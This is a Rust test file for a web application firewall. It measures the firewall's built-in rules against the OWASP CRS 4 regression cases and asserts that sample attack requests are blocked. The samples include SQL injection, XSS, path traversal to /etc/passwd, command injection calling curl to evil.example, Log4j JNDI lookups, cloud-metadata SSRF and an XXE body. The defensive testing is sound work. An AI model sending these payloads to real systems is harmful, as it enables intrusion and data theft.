//! Gabion's own rules against the regression cases of CRS 4.
//!
//! Of the cases that expect a critical rule of paranoia level 1, by the set's own word, the built-in rules must block
//! nine in ten. A third of these, by a hash of the case's id, was never looked at while the rules were written, and is
//! counted apart. The quality cases are those that only expect rules to be silent and that CRS itself passes at level 1:
//! the built-in rules must pass all of them but the attacks that are listed here by name, each with what it is. Without
//! `GABION_CRS` nobody can say which cases these are.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use gabion_waf::ftw::{self, Case, Expectation, Overrides};
use gabion_waf::{Disk, RuleSet, Source, builtin};

use crate::harness::{NOW, Request, get, ids, send, send_at};

/// How many of a hundred critical cases are blocked at least, of those that were looked at and of those that were not.
const BLOCKED_PERCENT_MIN: usize = 90;

/// CRS 4 at paranoia level 1, under the settings of its cases.
const LEVEL_1: &str = "SecAction \"id:1,phase:1,nolog,pass,setvar:tx.blocking_paranoia_level=1,\
                       setvar:tx.detection_paranoia_level=1\"";

/// The decision of the built-in rules, and of CRS.
const BLOCKED: &str = r#"\[id "1900[1-4]"\]"#;
const CRS_BLOCKED: &str = r#"\[id "9[45]91\d\d"\]"#;

/// Quality cases that the built-in rules block on purpose, with what each is.
const ATTACKS_AMONG_QUALITY: &[(&str, &str)] = &[
    (
        "920120-39",
        "a multipart body whose part has no name: CRS leaves it to the rules of the engine's recommended file",
    ),
    ("920240-4", "a body that is cut off in the middle of its XML: left to the same file"),
    ("920400-2", "a multipart body without its end: left to the same file"),
    ("920420-9", "a body called JSON that is none: left to the same file"),
    ("920420-10", "a body called XML that is none: left to the same file"),
    ("922130-8", "a multipart body whose parts have no head: left to the same file"),
    ("932180-3", "a multipart body whose part has no head: left to the same file"),
    ("921200-3", "an LDAP filter as a value, which no shop takes"),
    ("932207-3", "a program and a file of the system, both with wildcards, in the Referer"),
    ("932207-4", "ls -al behind a semicolon, in the Referer"),
    ("932230-46", "cat with a path behind a semicolon"),
    ("932260-1", "bash -c"),
    ("932260-19", "ping with an address"),
    ("933100-24", "the beginning of PHP code in a cookie"),
    ("933100-25", "the beginning of PHP code as the name of an argument"),
    ("934110-6", "the address of a metadata service"),
    ("934110-8", "the name of a metadata service"),
    ("934120-13", "the address of a metadata service as one number"),
    ("934120-19", "the address of a metadata service in IPv6"),
    ("942101-10", "a union behind a quote, in the path"),
    ("942101-11", "a union of selects, in the path"),
    ("942160-12", "benchmark(), in the path"),
    ("942360-29", "a select that calls DBMS_LDAP"),
];

/// What was counted of one class of cases.
#[derive(Default)]
struct Count {
    seen: (usize, usize),
    held_out: (usize, usize),
}

/// Whether the case was kept aside: FNV-1a of its id, its upper half divided by three.
fn is_held_out(id: &str) -> bool {
    let hash = id.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |hash, byte| {
        (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
    });
    (hash >> 32).is_multiple_of(3)
}

fn class(id: &str) -> &str {
    match id.get(..3) {
        Some("911" | "920" | "921" | "922") => "protocol",
        Some("913") => "scanners",
        Some("930") => "path traversal and local files",
        Some("931") => "remote files",
        Some("932") => "commands",
        Some("933") => "PHP",
        Some("934") => "JavaScript, templates, SSRF",
        Some("941") => "cross-site scripting",
        Some("942") => "SQL and NoSQL",
        Some("943") => "session fixation",
        Some("944") => "Java, Log4j",
        _ => "answers",
    }
}

/// A case with another expectation of each of its requests.
fn expecting(case: &Case, expected: &dyn Fn(&Expectation) -> Expectation) -> Case {
    let mut case = case.clone();
    for stage in &mut case.stages {
        stage.expected = expected(&stage.expected);
    }
    case
}

/// The ids of the cases that do not go as expected, each with what logged.
fn failing(rules: &RuleSet, cases: &[Case]) -> BTreeMap<String, Vec<u64>> {
    let summary = ftw::run(rules, cases, &Overrides::default(), |_| ());
    summary.failed.into_iter().map(|failure| (failure.id, failure.logged)).collect()
}

fn logs(pattern: String) -> Expectation {
    Expectation { log: vec![pattern], ..Expectation::default() }
}

/// The cases that expect a critical rule of level 1, and the quality cases.
fn divide(crs: &Path, cases: &[Case]) -> (Vec<Case>, Vec<Case>) {
    let mut sources = ftw::sources(&[crs.join("crs-setup.conf.example"), crs.join("rules/*.conf")]);
    sources.insert(1, Source::text("level.conf", LEVEL_1));
    let rules = RuleSet::load(&sources, &Disk).expect("CRS loads");
    let expects = |case: &&Case| case.stages.iter().any(|stage| !stage.expected.ids.is_empty());
    let (attacks, others): (Vec<&Case>, Vec<&Case>) = cases.iter().partition(expects);
    let critical = |case: &Case| {
        expecting(case, &|expected| {
            let ids: Vec<String> = expected.ids.iter().map(u64::to_string).collect();
            logs(format!(r#"\[id "(?:{})"\].*\[severity "CRITICAL"\].*paranoia-level/1"#, ids.join("|")))
        })
    };
    let not_critical = failing(&rules, &attacks.iter().map(|case| critical(case)).collect::<Vec<_>>());
    let silent = others.into_iter().filter(|case| case.stages.iter().any(|s| !s.expected.no_ids.is_empty()));
    let silent: Vec<Case> = silent.cloned().collect();
    let passes = Expectation { no_log: vec![CRS_BLOCKED.to_owned()], ..Expectation::default() };
    let blocked: Vec<Case> = silent.iter().map(|case| expecting(case, &|_| passes.clone())).collect();
    let blocked = failing(&rules, &blocked);
    (
        attacks.into_iter().filter(|case| !not_critical.contains_key(&case.id)).cloned().collect(),
        silent.into_iter().filter(|case| !blocked.contains_key(&case.id)).collect(),
    )
}

#[test]
#[expect(clippy::print_stderr, reason = "the table of what was measured, and why it was not")]
fn critical_cases_of_crs_4_are_blocked_and_quality_cases_pass() {
    let shared = std::env::var_os("GABION_SHARED")
        .map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared"), PathBuf::from);
    let folder = shared.join("crs/v4");
    let Some(crs) = std::env::var_os("GABION_CRS").map(PathBuf::from).filter(|_| folder.exists()) else {
        eprintln!("skipped: GABION_CRS names no checkout of CRS 4, or {} is not there", folder.display());
        return;
    };
    let cases = ftw::cases(&folder).expect("the cases are read");
    let (attacks, quality) = divide(&crs, &cases);
    let mut sources = ftw::sources(&[]);
    sources.extend(builtin::sources());
    let rules = RuleSet::load(&sources, &Disk).expect("the built-in rules load");

    let blocked: Vec<Case> =
        attacks.iter().map(|case| expecting(case, &|_| logs(BLOCKED.to_owned()))).collect();
    let missed = failing(&rules, &blocked);
    let mut table: BTreeMap<&str, Count> = BTreeMap::new();
    for case in &attacks {
        let count = table.entry(class(&case.id)).or_default();
        let held_out = is_held_out(&case.id);
        let (hit, all) = if held_out { &mut count.held_out } else { &mut count.seen };
        *all += 1;
        *hit += usize::from(!missed.contains_key(&case.id));
        if !held_out && let Some(logged) = missed.get(&case.id) {
            eprintln!("missed {}: {logged:?}", case.id);
        }
    }
    let pass = Expectation { no_log: vec![BLOCKED.to_owned()], ..Expectation::default() };
    let stopped =
        failing(&rules, &quality.iter().map(|case| expecting(case, &|_| pass.clone())).collect::<Vec<_>>());
    for (id, logged) in &stopped {
        eprintln!("quality case {id} is blocked by {logged:?}");
    }

    let percent = |(hit, all): (usize, usize)| (hit * 1000).checked_div(all).unwrap_or(1000);
    let cell = |count: (usize, usize)| {
        let tenths = percent(count);
        format!("{} of {} ({}.{} %)", count.0, count.1, tenths / 10, tenths % 10)
    };
    let mut text = String::from("| class | seen | held out |\n|---|---|---|\n");
    let mut sum = Count::default();
    for (class, count) in &table {
        writeln!(text, "| {class} | {} | {} |", cell(count.seen), cell(count.held_out))
            .expect("a String grows");
        sum.seen = (sum.seen.0 + count.seen.0, sum.seen.1 + count.seen.1);
        sum.held_out = (sum.held_out.0 + count.held_out.0, sum.held_out.1 + count.held_out.1);
    }
    eprintln!("{text}| all | {} | {} |", cell(sum.seen), cell(sum.held_out));
    let attacks_among: Vec<&str> = ATTACKS_AMONG_QUALITY.iter().map(|(id, _)| *id).collect();
    let wrongly: Vec<&String> = stopped.keys().filter(|id| !attacks_among.contains(&id.as_str())).collect();
    eprintln!("quality cases: {} of {} blocked", wrongly.len(), quality.len() - attacks_among.len());
    assert!(attacks.len() > 2_000 && quality.len() > 400, "{} and {}", attacks.len(), quality.len());
    assert!(percent(sum.seen) >= BLOCKED_PERCENT_MIN * 10);
    assert!(percent(sum.held_out) >= BLOCKED_PERCENT_MIN * 10);
    assert!(wrongly.is_empty(), "{wrongly:?}");
    assert_eq!(
        stopped.len(),
        attacks_among.len(),
        "an attack among them passes now: strike it from the list"
    );
}

fn rules() -> RuleSet {
    RuleSet::load(&builtin::sources(), &Disk).expect("the built-in rules load")
}

#[test]
fn attacks_of_every_kind_are_stopped() {
    let rules = rules();
    for line in [
        "GET /search?q=1%27+UNION+SELECT+password+FROM+users--",
        "GET /search?q=%27+or+%271%27%3D%271",
        "GET /item?id=1;WAITFOR+DELAY+%270:0:5%27",
        "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "GET /search?q=%22+onmouseover%3Dalert(1)+x%3D%22",
        "GET /download?file=../../../../etc/passwd",
        "GET /static/..%252f..%252fetc/passwd",
        "GET /page?include=http://192.0.2.66/shell.txt?",
        "GET /ping?host=127.0.0.1;cat+/etc/passwd",
        "GET /ping?host=$(curl+evil.example)",
        "GET /hi?name=%7B%7B7*7%7D%7D",
        "GET /?x=$%7Bjndi:ldap://evil.example/a%7D",
        "GET /?x=$%7B$%7Blower:j%7Dndi:ldap://evil.example/a%7D",
        "GET /user?name=*)(uid=*))(|(uid=*",
        "GET /login?user[$ne]=x",
        "GET /fetch?url=http://169.254.169.254/latest/meta-data/",
        "GET /?o=O:8:%22Evil%22:1:%7Bs:1:%22a%22;i:1;%7D",
        "GET /?o=rO0ABXNyABFqYXZh",
        "GET /?code=%3C?php+system(%27id%27);",
        "GET /?__proto__[admin]=1",
        "GET /go?to=x%0d%0aSet-Cookie:+a=b",
        "GET /.git/config",
        "GET /.env",
        "GET /backup.sql",
        "GET /wp-config.php.bak",
    ] {
        assert!(send(&rules, get(line)).interruption.is_some(), "{line}");
    }
    let headers = ["Host: shop.example", "Content-Type: application/xml"];
    let body =
        b"<?xml version=\"1.0\"?><a><b>&lt;!ENTITY x SYSTEM &quot;file:///etc/passwd&quot;&gt;</b></a>";
    let xml = Request { line: "POST /feed", headers: &headers, body };
    assert!(send(&rules, xml).interruption.is_some());
    let headers = ["Host: shop.example", "Content-Type: multipart/form-data; boundary=x"];
    let body =
        b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"cat.php.jpg\"\r\n\r\na\r\n--x--\r\n";
    let upload = Request { line: "POST /upload", headers: &headers, body };
    assert_eq!(ids(&send(&rules, upload)), [11100, 19002]);
}

#[test]
fn a_request_that_is_condemned_by_its_head_ends_there() {
    let stop = send(&rules(), get("GET /.git/config")).interruption.expect("a stop");
    assert_eq!((stop.rule, stop.status), (Some(19001), 403));
}

#[test]
fn the_threshold_is_a_setting() {
    let mut sources = vec![Source::text(
        "setting.conf",
        "SecAction \"id:1,phase:1,pass,nolog,setvar:tx.inbound_anomaly_score_threshold=100\"",
    )];
    sources.extend(builtin::sources());
    let rules = RuleSet::load(&sources, &Disk).expect("the rules load");
    let report = send(&rules, get("GET /.git/config"));
    assert_eq!((report.interruption, report.matches[0].id), (None, 10301));
}

#[test]
fn answers_that_give_too_much_away_are_stopped_and_pages_are_not() {
    let rules = rules();
    let stopped = |answer: &str| {
        send_at(&rules, get("GET /"), answer.as_bytes(), NOW).interruption.and_then(|stop| stop.rule)
    };
    for answer in [
        "You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version",
        "SQLSTATE[42S02]: Base table or view not found",
        "Traceback (most recent call last):\n  File \"/srv/shop/views.py\", line 4",
        "<b>Fatal error</b>: Uncaught Error in /var/www/html/index.php:12\nStack trace:\n#0 {main}",
        "<html><head><title>Index of /backup</title></head>",
        "<?php require 'config.php';",
        "-----BEGIN RSA PRIVATE KEY-----",
    ] {
        assert_eq!(stopped(answer), Some(19004), "{answer}");
    }
    for answer in [
        "<h1>Error</h1><p>Something went wrong. Please try again.</p>",
        "<p>Our SQL course: SELECT, UNION and common syntax errors explained</p>",
        "<p>Warning: hot! The index of teas is in the drawer.</p>",
        "<script>try { buy() } catch (e) { console.error(e) }</script>",
    ] {
        assert_eq!(stopped(answer), None, "{answer}");
    }
}

#[test]
fn every_rule_is_in_the_reference_and_has_an_id_of_ours() {
    let page = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/reference/builtin-rules.md");
    let page = std::fs::read_to_string(page).expect("the reference is there");
    for source in builtin::sources() {
        let Source::Text { name, text } = source else { panic!("the rules are compiled in") };
        let text = String::from_utf8(text).expect("the rules are UTF-8");
        let ids: Vec<u32> = text
            .split("\"id:")
            .skip(1)
            .map(|rest| rest.split(',').next().and_then(|id| id.parse().ok()).expect("an id"))
            .collect();
        assert!(!ids.is_empty(), "{}", name.display());
        for id in ids {
            assert!((10_000..20_000).contains(&id), "{id}");
            assert!(page.contains(&format!("| {id} |")), "{id} of {} is not on the page", name.display());
        }
    }
}
